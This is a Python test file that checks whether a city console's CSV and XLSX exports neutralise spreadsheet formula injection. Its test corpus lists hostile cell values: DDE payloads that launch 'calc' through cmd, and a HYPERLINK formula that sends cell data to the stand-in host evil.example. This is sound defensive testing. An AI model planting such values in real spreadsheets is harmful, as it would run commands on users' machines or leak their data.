"""Files for spreadsheets: nothing in them is ever a formula, and nothing is lost."""

from __future__ import annotations

import csv
import io
import zipfile
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from smartcity.console.figures.sheets import Sheet, as_csv, as_xlsx, harmless

CORPUS = [
    "=1+1",
    "+49 2151 86",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\0=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|'/C calc'!'A1'",
    '";=1+1;"',
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "|calc",
    "%0A=1",
    "\ud800=1",
]
RUNNERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "|", "%")
NAMES = {"s": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def xlsx_cells(content: bytes) -> tuple[list[str], list[str]]:
    """The texts of the first sheet, and whatever formulas the workbook holds."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        strings = ElementTree.fromstring(package.read("xl/sharedStrings.xml"))
        texts = ["".join(item.itertext()) for item in strings.findall("s:si", NAMES)]
        sheet = ElementTree.fromstring(package.read("xl/worksheets/sheet1.xml"))
        cells = [texts[int(cell.findtext("s:v", "", NAMES))] for cell in sheet.iterfind(".//s:c[@t='s']", NAMES)]
        links = [name for name in package.namelist() if name.endswith(".rels") and "worksheets" in name]
        return cells, [f.text or "" for f in sheet.iterfind(".//s:f", NAMES)] + links


@pytest.mark.parametrize("text", CORPUS)
def test_no_text_of_the_corpus_runs(text: str) -> None:
    sheet = Sheet("Fragen", ["Text", "Zahl"], [[text, 3]])
    cell = csv_cells(as_csv(sheet))[1][0]
    assert not cell.lstrip(" \0").startswith(RUNNERS), cell
    cells, formulas = xlsx_cells(as_xlsx([sheet]))
    assert formulas == []
    assert not cells[2].lstrip(" \0").startswith(RUNNERS), cells


@given(st.text(max_size=40))
def test_no_text_at_all_runs_and_each_stays_in_its_cell(text: str) -> None:
    sheet = Sheet("x", ["a", "b"], [[text, "after"]])
    rows = csv_cells(as_csv(sheet))
    assert [len(row) for row in rows] == [2, 2]
    assert not rows[1][0].lstrip().startswith(RUNNERS)
    assert rows[1][1] == "after"
    assert xlsx_cells(as_xlsx([sheet]))[1] == []


def test_numbers_stay_numbers_even_below_zero() -> None:
    assert [harmless(value) for value in (-3, 0.25, None)] == [-3, 0.25, None]
    sheet = Sheet("x", ["Zahl"], [[-3], [None], [0.5]])
    assert csv_cells(as_csv(sheet)) == [["Zahl"], ["-3"], [""], ["0.5"]]


def test_the_head_is_harmless_too() -> None:
    sheet = Sheet("a/b:[c]" * 9, ["=1"], [])
    assert csv_cells(as_csv(sheet)) == [["'=1"]]
    assert xlsx_cells(as_xlsx([sheet])) == (["'=1"], [])


def test_ordinary_texts_stay_as_they_are() -> None:
    for text in ("Was kostet der KRuiser?", "3 = 3", "a-b", "zwei\nZeilen", "<b>", ""):
        assert harmless(text) == text
